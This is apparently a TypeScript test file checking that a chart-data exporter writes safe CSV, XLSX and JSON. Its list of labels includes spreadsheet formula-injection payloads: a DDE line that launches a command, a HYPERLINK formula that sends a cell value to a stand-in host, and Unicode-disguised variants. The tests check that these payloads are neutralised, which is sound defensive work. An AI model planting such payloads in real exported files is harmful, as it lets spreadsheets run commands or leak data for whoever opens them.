import { read, utils, type WorkSheet } from '@e965/xlsx';
import { describe, expect, test } from 'vitest';
import type { ChartData } from '../drawing/chart-data.ts';
import { makeDataFile, writeCsv, writeJson, writeXlsx } from './chart-data-file.ts';

const AT = new Date(2026, 10, 21, 12, 0);
const TITLE = 'Fichas por cidade';

/** What somebody might call a city, a tag or a company so that a spreadsheet runs it. */
const FORMULAS = [
  '=HYPERLINK("http://x.test?"&A1;"clique")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\0=1+1',
  ' =1+1',
  '\u00A0=1+1',
  '\uFEFF=1+1',
  '\u200B=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠A1',
  '−1',
];
const PLAIN = [
  'São Paulo · SP',
  "D'Oeste",
  'a;b',
  'diz "oi"',
  'duas\r\nlinhas',
  '50% a mais',
  '1-2',
  'a=b',
  ' espaço',
  '',
];
const LABELS = [...FORMULAS, ...PLAIN];

function figuresOf(labels: readonly string[]): ChartData {
  return {
    category: 'Cidade',
    series: ['Fichas', '=1+1'],
    rows: labels.map((label, index) => ({ id: String(index), label, values: [1234.5 + index, 1 - index] })),
  };
}

/** A strict reader of RFC 4180 with semicolons: throws at anything else. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  let at = 0;
  while (at < text.length) {
    const row: string[] = [];
    for (;;) {
      const cell = /^(?:"((?:[^"]|"")*)"|([^";\r\n]*))(;|\r\n)/.exec(text.slice(at));
      if (!cell) throw new Error(`Not CSV at ${at}: ${JSON.stringify(text.slice(at, at + 20))}`);
      at += cell[0].length;
      row.push(cell[1]?.replaceAll('""', '"') ?? cell[2] ?? '');
      if (cell[3] === '\r\n') break;
    }
    rows.push(row);
  }
  return rows;
}

async function readSheet(blob: Blob): Promise<{ name: string; sheet: WorkSheet }> {
  const { SheetNames, Sheets } = read(new Uint8Array(await blob.arrayBuffer()), {
    cellFormula: true,
    cellStyles: true,
  });
  const [name = ''] = SheetNames;
  const sheet = Sheets[name];
  if (!sheet) throw new Error('No sheet.');
  return { name, sheet };
}

describe('figures as CSV', () => {
  const csv = writeCsv(figuresOf(LABELS));

  test('begin with the mark of UTF-8 and end each line with CR LF', () => {
    expect(new TextEncoder().encode(csv).slice(0, 3)).toEqual(new Uint8Array([0xef, 0xbb, 0xbf]));
    expect(csv.endsWith('\r\n')).toBe(true);
  });

  test('are read back by a strict reader, row by row, with decimal commas', () => {
    const [head, ...rows] = readCsv(csv.slice(1));
    expect(head).toEqual(['Cidade', 'Fichas', "'=1+1"]);
    expect(rows).toHaveLength(LABELS.length);
    expect(rows[0]?.slice(1)).toEqual(['1234,5', '1']);
    expect(rows[2]?.slice(1)).toEqual(['1236,5', '-1']);
  });

  test.each(FORMULAS)('make text of %j, which a spreadsheet would run', (formula) => {
    expect(readCsv(writeCsv(figuresOf([formula])).slice(1))[1]?.[0]).toBe(`'${formula}`);
  });

  test.each(PLAIN)('leave %j as it is', (text) => {
    expect(readCsv(writeCsv(figuresOf([text])).slice(1))[1]?.[0]).toBe(text);
  });

  test('hold no formula for a program that opens them', () => {
    const sheet = read(csv, { type: 'string', FS: ';', cellFormula: true }).Sheets['Sheet1'] ?? {};
    const cells = Object.entries(sheet).filter(([address]) => !address.startsWith('!'));
    expect(cells.length).toBeGreaterThan(LABELS.length);
    for (const [address, { f, v }] of cells as [string, { f?: string; v?: unknown }][]) {
      expect(f, address).toBeUndefined();
      if (typeof v === 'string' && address.startsWith('A')) expect(v, address).not.toMatch(/^\s*[=+\-@]/);
    }
  });
});

describe('figures as XLSX', () => {
  test('are numbers where there are numbers, text where there is text, and never a formula', async () => {
    const { name, sheet } = await readSheet(await writeXlsx({ title: TITLE, data: figuresOf(LABELS), at: AT }));
    expect(name).toBe(TITLE);
    expect(sheet['A1']).toMatchObject({ t: 's', v: 'Cidade' });
    expect(sheet['C1']).toMatchObject({ t: 's', v: '=1+1' });
    LABELS.forEach((label, index) => {
      const row = index + 2;
      const cell = sheet[`A${row}`] as { t?: string; v?: string } | undefined;
      if (label !== '') expect(cell?.t, label).toBe('s');
      expect((cell?.v ?? '').replaceAll('\r\n', '\n'), label).toBe(label.replace('\0', '').replaceAll('\r\n', '\n'));
      expect(sheet[`B${row}`]).toMatchObject({ t: 'n', v: 1234.5 + index });
      expect(sheet[`C${row}`]).toMatchObject({ t: 'n', v: 1 - index });
    });
    for (const [address, cell] of Object.entries(sheet))
      if (!address.startsWith('!')) expect((cell as { f?: string }).f, address).toBeUndefined();
  });

  test('have a head in bold and a sheet name that Excel takes', async () => {
    const title = "'Fichas [todas]: por cidade/estado? *muito longo* mesmo";
    const blob = await writeXlsx({ title, data: figuresOf(['A']), at: AT });
    const { name, sheet } = await readSheet(blob);
    expect(name).toBe('Fichas  todas   por cidade est');
    expect(utils.sheet_to_json(sheet, { header: 1 })).toEqual([
      ['Cidade', 'Fichas', '=1+1'],
      ['A', 1234.5, 1],
    ]);
    const { files } = read(new Uint8Array(await blob.arrayBuffer()), { bookFiles: true }) as unknown as {
      files: Record<string, { content: Uint8Array }>;
    };
    const styles = new TextDecoder().decode(files['xl/styles.xml']?.content);
    expect(styles).toContain('<b/>');
  });

  test('are read although a name has characters that XML does not know', async () => {
    const { sheet } = await readSheet(
      await writeXlsx({ title: TITLE, data: figuresOf(['a\u0001b\uD800c\uFFFFd & <e> "f" 😀']), at: AT }),
    );
    expect(sheet['A2']).toMatchObject({ t: 's', v: 'abcd & <e> "f" 😀' });
  });
});

test('figures as JSON are the figures, with their title and their day', () => {
  const data = figuresOf(LABELS);
  expect(JSON.parse(writeJson({ title: TITLE, data, at: AT }))).toEqual({
    title: TITLE,
    date: '2026-11-21',
    ...data,
  });
});

test.each([
  ['csv', 'text/csv;charset=utf-8'],
  ['json', 'application/json'],
  ['xlsx', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'],
] as const)('a file of %s says what it is', async (format, type) => {
  expect((await makeDataFile({ title: TITLE, data: figuresOf(['A']), at: AT }, format)).type).toBe(type);
});
